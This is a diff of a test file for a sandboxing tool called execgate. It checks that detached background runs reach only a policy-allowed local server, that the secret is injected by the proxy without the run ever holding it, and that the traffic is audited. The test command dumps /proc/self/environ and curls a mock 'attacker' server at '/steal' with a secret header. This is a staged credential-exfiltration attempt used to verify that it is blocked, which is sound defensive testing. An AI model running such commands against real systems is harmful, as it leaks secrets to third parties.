@@ -1,13 +1,12 @@
 /*
  * Background runs started from the command line (`execgate run --mode background`) are handed to
- * a detached supervisor and outlive the CLI process, where the egress proxy lives: such a run is
- * sandboxed with loopback only. A bound secret is refused with a coded error that says so, before
- * it is resolved and before anything runs; a run without one runs, and reaches nothing, while the
- * same command in the foreground goes out through the proxy. Real CLI, real sandbox, a real
- * server on 127.0.0.1 that the policy explicitly allows.
+ * a detached supervisor and outlive the CLI process. The run's egress endpoint goes with it: the
+ * supervisor serves the run's proxy socket with a proxy of its own for as long as the run lives.
+ * Real CLI, real sandbox, a real server on 127.0.0.1 that the policy names explicitly (an IP
+ * literal in `allow`), an "attacker" server it does not name.
  */
-import { spawn, spawnSync } from 'node:child_process';
-import { existsSync, readFileSync, writeFileSync } from 'node:fs';
+import { spawn } from 'node:child_process';
+import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
 import { createServer, type Server } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { join } from 'node:path';
@@ -18,54 +17,58 @@ const CLI = join(__dirname, '..', '..', 'dist', 'cli', 'main.js');
 const VALUE = 'ghp_CliBackgroundValue0123456789abcdef';
 const maybe = checkPlatform(undefined).ok ? describe : describe.skip;
 
+interface Service { server: Server; port: number; seen: string[]; connections: number }
+
+async function startService(): Promise<Service> {
+  const service = { seen: [], connections: 0 } as unknown as Service;
+  service.server = createServer((req, res) => {
+    const token = String(req.headers['x-token'] ?? '');
+    service.seen.push(`${req.url} ${token}`);
+    // Echoes the credential: the proxy must take it out before the run reads it.
+    res.end(`reached ${token}\n`);
+  });
+  service.server.on('connection', () => { service.connections += 1; });
+  await new Promise<void>((resolve) => service.server.listen(0, '127.0.0.1', resolve));
+  service.port = (service.server.address() as AddressInfo).port;
+  return service;
+}
+
 let tmp: ReturnType<typeof makeTempDir>;
-let server: Server;
-let port: number;
-const seen: string[] = [];
-let connections = 0;
+let allowed: Service;
+let attacker: Service;
+let runtime: string;
 
 beforeAll(async () => {
   tmp = makeTempDir('execgate-egress-cli-bg-');
-  server = createServer((req, res) => {
-    seen.push(`${req.url} ${String(req.headers['x-token'] ?? '')}`);
-    res.end('reached\n');
-  });
-  server.on('connection', () => { connections += 1; });
-  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
-  port = (server.address() as AddressInfo).port;
-  // The loopback server is reachable through the proxy only because the policy names it as an IP literal.
+  runtime = join(tmp.dir, 'runtime');
+  mkdirSync(runtime);
+  allowed = await startService();
+  attacker = await startService();
   writeFileSync(join(tmp.dir, 'policy.yaml'), [
     'version: 1',
-    `sandbox: { mode: required, network: { mode: allowlist, allow: ["127.0.0.1:${port}"] } }`,
+    `sandbox: { mode: required, network: { mode: allowlist, allow: ["127.0.0.1:${allowed.port}"] } }`,
     'secrets:',
     '  bind:',
-    `    - { ref: "secret:gh", hosts: ["127.0.0.1:${port}"], delivery: inject }`,
+    `    - { ref: "secret:gh", hosts: ["127.0.0.1:${allowed.port}"], delivery: inject }`,
   ].join('\n'));
 });
 
 afterAll(async () => {
-  spawnSync(process.execPath, [CLI, 'ps', '--json'], { env: env(), encoding: 'utf8' });
-  server.closeAllConnections();
-  await new Promise((resolve) => server.close(resolve));
+  await execgate(['ps', '--json']);
+  for (const service of [allowed, attacker]) {
+    service.server.closeAllConnections();
+    await new Promise((resolve) => service.server.close(resolve));
+  }
   tmp.cleanup();
 });
 
-beforeEach(() => {
-  seen.length = 0;
-  connections = 0;
-});
-
 function env(): NodeJS.ProcessEnv {
-  return baseEnv({ EXECGATE_HOME: join(tmp.dir, 'home'), EXECGATE_POLICY: join(tmp.dir, 'policy.yaml'), EXECGATE_SECRET_GH: VALUE });
+  // TMPDIR: where the CLI's proxy puts its runtime directory, so the test can see it cleaned up.
+  return baseEnv({ EXECGATE_HOME: join(tmp.dir, 'home'), EXECGATE_POLICY: join(tmp.dir, 'policy.yaml'), EXECGATE_SECRET_GH: VALUE, TMPDIR: runtime });
 }
 
-function execgate(args: string[]): { status: number | null; stdout: string; stderr: string } {
-  const result = spawnSync(process.execPath, [CLI, ...args], { cwd: tmp.dir, env: env(), encoding: 'utf8', timeout: 60_000 });
-  return { status: result.status, stdout: result.stdout, stderr: result.stderr };
-}
-
-/** Asynchronous, for runs that reach the test's own server (spawnSync would block it from answering). */
-function execgateAsync(args: string[]): Promise<{ status: number | null; stdout: string; stderr: string }> {
+/** Asynchronous: the runs reach the test's own servers (spawnSync would block them from answering). */
+function execgate(args: string[]): Promise<{ status: number | null; stdout: string; stderr: string }> {
   return new Promise((resolve, reject) => {
     const child = spawn(process.execPath, [CLI, ...args], { cwd: tmp.dir, env: env(), stdio: ['ignore', 'pipe', 'pipe'] });
     let stdout = '';
@@ -77,30 +80,52 @@ function execgateAsync(args: string[]): Promise<{ status: number | null; stdout:
   });
 }
 
-// NO_PROXY names 127.0.0.1 (the sandbox's own loopback); this request is for the host's, through the proxy.
-const fetchCommand = (path: string, header = ''): string => `env -u NO_PROXY -u no_proxy curl -sS --max-time 10 ${header} http://127.0.0.1:${port}${path}`;
+async function waitForAsync(check: () => Promise<boolean>, timeoutMs: number): Promise<boolean> {
+  for (const end = Date.now() + timeoutMs; Date.now() < end;) {
+    if (await check()) return true;
+    await new Promise((resolve) => setTimeout(resolve, 100));
+  }
+  return check();
+}
 
-maybe('egress of background runs started from the CLI', () => {
-  test('a bound secret is refused with EXECGATE_ERR_EGRESS_DETACHED: nothing resolved, nothing run', () => {
-    const result = execgate(['run', '--mode', 'background', '--', `touch ran; ${fetchCommand('/bound', '-H "X-Token: <<secret:gh>>"')}`]);
-    expect(result.status).not.toBe(0);
-    expect(result.stderr).toContain('EXECGATE_ERR_EGRESS_DETACHED');
-    expect(result.stderr).toContain('loopback only');
-    expect(result.stderr).toContain('--mode sync');
-    expect(result.stderr).not.toContain('EXECGATE_ERR_EGRESS_NEEDS_SANDBOX');
-    expect(result.stderr + result.stdout).not.toContain(VALUE);
-    expect(existsSync(join(tmp.dir, 'ran'))).toBe(false);
-    expect(connections).toBe(0);
-  });
+// NO_PROXY names 127.0.0.1 (the sandbox's own loopback); these requests are for the host's, through the proxy.
+const curl = (port: number, path: string, header = ''): string => `env -u NO_PROXY -u no_proxy curl -sS --max-time 20 -w " %{http_code}\\n" ${header} http://127.0.0.1:${port}${path}`;
 
-  test('without a bound secret it runs with loopback only; the same command in the foreground reaches the allowed server', async () => {
-    const started = execgate(['run', '--mode', 'background', '--', `${fetchCommand('/background')}; echo "rc=$?" > bg-result`]);
+maybe('egress of background runs started from the CLI (served by the detached supervisor)', () => {
+  test('the run reaches the allowed server with the secret injected, never holding it; the attacker gets nothing; all audited and cleaned up', async () => {
+    const command = [
+      'cat /proc/self/environ > bg.env',
+      // The CLI has exited by now (it printed the id and returned): only the supervisor serves the proxy.
+      'for i in $(seq 200); do [ -e go ] && break; sleep 0.05; done',
+      curl(allowed.port, '/bg', '-H "X-Token: <<secret:gh>>"'),
+      curl(attacker.port, '/steal', '-H "X-Token: <<secret:gh>>"'),
+      'echo done > bg-done',
+    ].join('\n');
+    const started = await execgate(['run', '--mode', 'background', '--', command]);
+    expect(started.stderr).toBe('');
     expect(started.status).toBe(0);
-    expect(await waitFor(() => existsSync(join(tmp.dir, 'bg-result')) && readFileSync(join(tmp.dir, 'bg-result'), 'utf8').endsWith('\n'), 30_000)).toBe(true);
-    expect(readFileSync(join(tmp.dir, 'bg-result'), 'utf8')).toMatch(/^rc=[1-9]/);
-    expect(connections).toBe(0);
-    const sync = await execgateAsync(['run', '--', fetchCommand('/sync', '-H "X-Token: <<secret:gh>>"')]);
-    expect(sync.stdout).toBe('reached\n');
-    expect(seen).toEqual([`/sync ${VALUE}`]);
+    const id = started.stdout.trim();
+    expect(id).toMatch(/^run_/);
+    writeFileSync(join(tmp.dir, 'go'), '');
+    expect(await waitFor(() => existsSync(join(tmp.dir, 'bg-done')), 60_000, 50)).toBe(true);
+
+    expect(allowed.seen).toEqual([`/bg ${VALUE}`]);
+    expect(attacker.connections).toBe(0);
+    const environ = readFileSync(join(tmp.dir, 'bg.env'), 'latin1');
+    expect(environ).not.toContain(VALUE);
+    expect(environ).toMatch(/EXECGATE_REF_\d+=[^\0]{38}\0/);
+
+    expect(await waitForAsync(async () => JSON.parse((await execgate(['ps', '--json'])).stdout)[0]?.state === 'exited', 30_000)).toBe(true);
+    const logs = (await execgate(['logs', id])).stdout;
+    expect(logs).toContain('reached [REDACTED:secret:gh]\n 200\n');
+    expect(logs).toMatch(/ 403\n/);
+    expect(logs).not.toContain(VALUE);
+
+    // The supervisor wrote the decisions to the run's audit log, and removed the run's directory.
+    const show = await execgate(['audit', 'show', id]);
+    expect(show.stdout).toContain(`allowed 127.0.0.1:${allowed.port} via http, GET 200, rule allow:127.0.0.1:${allowed.port}, injected secret:gh`);
+    expect(show.stdout).toContain(`denied 127.0.0.1:${attacker.port} via http`);
+    expect(readFileSync(join(tmp.dir, 'home', 'audit.log'), 'utf8')).not.toContain(VALUE);
+    expect(await waitFor(() => readdirSync(runtime).length === 0, 10_000, 50)).toBe(true);
   });
 });
